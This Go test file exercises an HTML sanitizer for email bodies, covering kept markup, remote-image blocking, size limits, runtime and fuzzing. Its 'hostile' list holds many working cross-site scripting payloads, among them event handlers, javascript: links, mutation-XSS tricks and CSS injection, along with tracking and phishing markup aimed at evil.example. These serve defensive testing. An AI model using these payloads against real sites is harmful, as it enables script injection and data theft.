package safehtml

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// image is the message's one inline image.
func image(id string) string {
	if id == "logo@example.com" {
		return "/v1/accounts/a/messages/m/attachments/2:download"
	}
	return ""
}

func sanitize(page string) Result { return Sanitize(page, Options{Image: image, Limit: 1 << 20}) }

func TestSanitizeKeeps(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"text", "a &amp; b < c", "a &amp; b &lt; c"},
		{"document", "<!DOCTYPE html><html><head><title>t</title></head><body><p>a</p></body></html>", "<p>a</p>"},
		{"table", `<table width="100%" bgcolor="#fff" cellpadding=0><tr><td align=center colspan=2>a</td></tr></table>`,
			`<table width="100%" bgcolor="#fff" cellpadding="0"><tr><td align="center" colspan="2">a</td></tr></table>`},
		{"style", `<td style="color:#333; font:12px 'Segoe UI',sans-serif;padding:0 4px !important">a</td>`,
			`<td style="color: #333; font: 12px &#39;Segoe UI&#39;,sans-serif; padding: 0 4px !important">a</td>`},
		{"colours", `<i style="color:rgb(1, 2,3);background:rgba(0,0,0,.5)">a</i>`, `<i style="color: rgb(1, 2,3); background: rgba(0,0,0,.5)">a</i>`},
		{"link", `<a href="https://example.com/?a=1&amp;b=2">x</a>`,
			`<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>`},
		{"link's own target", `<a href="mailto:a@example.com" target="_top" rel="opener">x</a>`,
			`<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>`},
		{"inline image", `<img src="cid:logo@example.com" width="10">`, `<img src="/v1/accounts/a/messages/m/attachments/2:download" width="10">`},
		{"escaped id", `<img src="cid:logo%40example.com">`, `<img src="/v1/accounts/a/messages/m/attachments/2:download">`},
		{"image that is not there", `<img alt="x" src="cid:other">`, `<img alt="x">`},
		{"image in the text", `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`},
		{"list", `<ol start="3" type="a"><li>x<li>y</ol>`, `<ol start="3" type="a"><li>x<li>y</ol>`},
		{"right to left", `<p dir="RTL" lang="he">x</p>`, `<p dir="RTL" lang="he">x</p>`},
		{"unknown element", "<o:p>a</o:p><foo>b</foo>", "ab"},
		{"left open", "<div><b>a", "<div><b>a</b></div>"},
		{"slash that closes nothing", "<b/>a<br/>", "<b>a<br></b>"},
		{"closed too often", "a</div></div></td>b", "ab"},
		{"crossed", "<b><div>a</b>b</div>", "<b><div>a</div></b>b"},
		{"emoji", "<p>😀 ä</p>", "<p>😀 ä</p>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := sanitize(tt.in); got.HTML != tt.want || got.Truncated {
				t.Errorf("got  %s\nwant %s", got.HTML, tt.want)
			}
		})
	}
}

// hostile is HTML that someone means harm with. What is to be left of it is
// checked by what no result may have, see [checkHarmless].
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<textarea><img src=x onerror=alert(1)></textarea>`, `<title><img src=x onerror=alert(1)></title>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror="alert(1)">`, `<img src="x" onerror=alert(1) title="` + "\x00" + `">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="data:image/png;base64,iVBORw0KGgo=">x</a>`, `<a href="blob:https://example.com/x">x</a>`, `<a href="cid:logo@example.com">x</a>`,
	`<a href="/v1/accounts/a:pause">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="?x">x</a>`, `<a href="#x">x</a>`, `<a href="https:/x">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="data:text/html,x">`,
	`<img src="/v1/accounts/a">`, `<img src="//evil.example/p.gif">`, `<img srcset="https://evil.example/p.gif 1x">`,
	`<img src="cid:x&quot; onerror=&quot;alert(1)">`, `<table background="https://evil.example/p.gif"><tr><td background="x">a</table>`,
	`<div style="background:url(https://evil.example/p.gif)">a</div>`, `<div style="background-image: url('https://evil.example')">a</div>`,
	`<div style="width: expression(alert(1))">a</div>`, `<div style="behavior:url(x)">a</div>`, `<div style="-moz-binding:url(x)">a</div>`,
	`<div style="color:red;/*;*/background:u\72l(x)">a</div>`, `<div style="color: u/**/rl(x)">a</div>`, `<div style="font-family:'x;background:url(y)'">a</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">a</div>`, `<div style="margin-top:-500px">a</div>`,
	`<div style="color: var(--secret)">a</div>`, `<div style="width:calc(100% - 1px)">a</div>`, `<div style="background: image-set('x' 1x)">a</div>`,
	`<style>@import "https://evil.example/x.css"; body{display:none}</style>a`, `<style><!--</style><script>alert(1)</script>--></style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">a`, `<meta http-equiv=refresh content="0;url=https://evil.example/">a`,
	`<base href="https://evil.example/"><a href="x">y</a>`, `<form action="https://evil.example/"><input name=password><button>ok</button></form>`,
	`<button formaction="javascript:alert(1)">a</button>`, `<input onfocus=alert(1) autofocus>`, `<select onchange=alert(1)><option>a</select>b`,
	`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"></object><embed src="x">b`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`, `<applet code=x>a</applet>`, `<video src=x onerror=alert(1)><source src=x></video>`, `<audio src=x>`,
	`<body onload=alert(1)>a`, `<body background="https://evil.example/p.gif">a`, `<html manifest="x">a`, `<isindex action=x>`, `<keygen autofocus onfocus=alert(1)>`,
	`<div id="cookie" name="x" class="admin">a</div>`, `<a name="createElement">x</a>`, `<img name="body" id="forms">`, `<p contenteditable accesskey=x tabindex=1 draggable>a</p>`,
	`<details ontoggle=alert(1) open>a</details>`, `<marquee onstart=alert(1)>a</marquee>`, `<dialog open>a</dialog>`, `<slot name=x></slot>`, `<portal src=x>`,
	`</div></div></body></html><div>a`, `<p><table><p>a`, `<plaintext>a</plaintext><script>alert(1)</script>`, "<a\x0bhref=javascript:alert(1)>x</a>",
	`<map name=x><area href="javascript:alert(1)"></map><img usemap="#x" ismap>`, `<bgsound src=x>`, `<layer src=x>`, `<?xml-stylesheet href="x"?>a`, `<a ping="https://evil.example" href="https://example.com">x</a>`,
}

// allowedAttributes are all that a result may have, whatever it comes from.
var allowedAttributes = set(`style title dir lang align valign bgcolor bordercolor width height border cellpadding cellspacing hspace vspace
	colspan rowspan span nowrap scope rules frame color face size start value type alt src href target rel`)

// checkHarmless reads a result as a browser would, and looks at all that is in
// it.
func checkHarmless(t *testing.T, in, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		if strings.Contains(err.Error(), "512") {
			return // Deeper than this parser goes.
		}
		t.Fatal(err)
	}
	for _, n := range nodes {
		for d := range n.Descendants() {
			checkNode(t, in, out, d)
		}
		checkNode(t, in, out, n)
	}
}

func checkNode(t *testing.T, in, out string, n *html.Node) {
	t.Helper()
	switch n.Type {
	case html.TextNode:
		return
	case html.ElementNode:
	default:
		t.Errorf("%q became %q, with a node of type %d", in, out, n.Type)
		return
	}
	switch n.DataAtom {
	case 0, atom.Script, atom.Style, atom.Svg, atom.Math, atom.Iframe, atom.Form, atom.Input, atom.Button, atom.Object, atom.Embed, atom.Base, atom.Meta,
		atom.Link, atom.Template, atom.Noscript, atom.Textarea, atom.Title, atom.Select, atom.Video, atom.Audio, atom.Body, atom.Html, atom.Area, atom.Map, atom.Frame:
		t.Errorf("%q became %q, with a <%s>", in, out, n.Data)
	}
	for _, a := range n.Attr {
		value := strings.ToLower(a.Val)
		if !allowedAttributes[a.Key] {
			t.Errorf("%q became %q, with the attribute %s", in, out, a.Key)
		}
		switch a.Key {
		case "href":
			if !hasScheme(value, "http", "https", "mailto", "tel") {
				t.Errorf("%q became %q, with a link to %s", in, out, a.Val)
			}
		case "src":
			if !hasScheme(value, "http", "https") && !strings.HasPrefix(value, "data:image/") && a.Val != image("logo@example.com") || strings.Contains(value, "svg+xml") {
				t.Errorf("%q became %q, with a source %s", in, out, a.Val)
			}
		case "style":
			for _, bad := range []string{"url", "expression", "@", `\`, "/*", "position", "binding", "behavior", "var(", "calc("} {
				if strings.Contains(value, bad) {
					t.Errorf("%q became %q, with %s in a style", in, out, bad)
				}
			}
		}
	}
}

func TestSanitizeHostile(t *testing.T) {
	t.Parallel()
	for _, in := range slices.Concat(hostile, mutating) {
		checkHarmless(t, in, sanitize(in).HTML)
		// It must not matter what stands around it.
		around := "<table><tr><td>" + in + "</td></tr></table><p>after</p>"
		checkHarmless(t, around, sanitize(around).HTML)
	}
}

func TestSanitizeRemote(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		block    bool
		want     string
		remote   bool
	}{
		{"loaded", `<img src="https://example.com/p.gif">`, false, `<img src="https://example.com/p.gif">`, true},
		{"blocked", `<img src="HTTP://example.com/p.gif" alt="Logo">`, true, `<img alt="Logo">`, true},
		{"inline", `<img src="cid:logo@example.com">`, true, `<img src="/v1/accounts/a/messages/m/attachments/2:download">`, false},
		{"none", `<a href="https://example.com/p.gif"></a>`, true, `<a href="https://example.com/p.gif" target="_blank" rel="noopener noreferrer nofollow"></a>`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := Sanitize(tt.in, Options{Image: image, BlockRemote: tt.block, Limit: 1 << 20})
			if got.HTML != tt.want || got.Remote != tt.remote {
				t.Errorf("%+v, want %s", got, tt.want)
			}
		})
	}
}

func TestSanitizeLimit(t *testing.T) {
	t.Parallel()
	got := Sanitize("<div><b>"+strings.Repeat("ä&amp;", 100)+"</b></div>", Options{Limit: 52})
	if !got.Truncated || !strings.HasSuffix(got.HTML, "</b></div>") || strings.Contains(got.HTML, "&<") || strings.Contains(got.HTML, "�") {
		t.Errorf("%+v", got)
	}
	if got := Sanitize("<p>x</p>", Options{Limit: 8}); got.Truncated || got.HTML != "<p>x</p>" {
		t.Errorf("%+v", got)
	}
}

// TestSanitizeIsLinear gives it a quarter of what a body may be. A quadratic
// way would take minutes, and the test its deadline.
func TestSanitizeIsLinear(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{
		"<div>", "</div>", "<b></i>", "<", "<!--", "<a href='", "&", "<svg>", `<p style="color:red;`, "<script>", "<![CDATA[", "<td style='color:" + strings.Repeat("x;", 50) + "'>",
		"<img src=data:image/png;base64,AAAA>", "<a b=c ", "<select>", "<title>", "<a>", "<p title='\"'>", "<!", "</", "<x y=",
	} {
		in := strings.Repeat(unit, (256<<10)/len(unit))
		checkHarmless(t, unit, sanitize(in).HTML)
	}
	checkHarmless(t, "one long style", sanitize(`<p style="`+strings.Repeat("color:red;", 100_000)+`">x`).HTML)
	checkHarmless(t, "many attributes", sanitize(`<p `+strings.Repeat("title=x ", 100_000)+`>x`).HTML)
}

func FuzzSanitize(f *testing.F) {
	for _, in := range slices.Concat(hostile, mutating) {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := sanitize(in)
		checkHarmless(t, in, got.HTML)
		for _, name := range []string{"div", "table", "td", "span", "b", "a"} {
			if strings.Count(got.HTML, "<"+name+">")+strings.Count(got.HTML, "<"+name+" ") != strings.Count(got.HTML, "</"+name+">") {
				t.Errorf("%q became %q, with <%s> left open", in, got.HTML, name)
			}
		}
	})
}
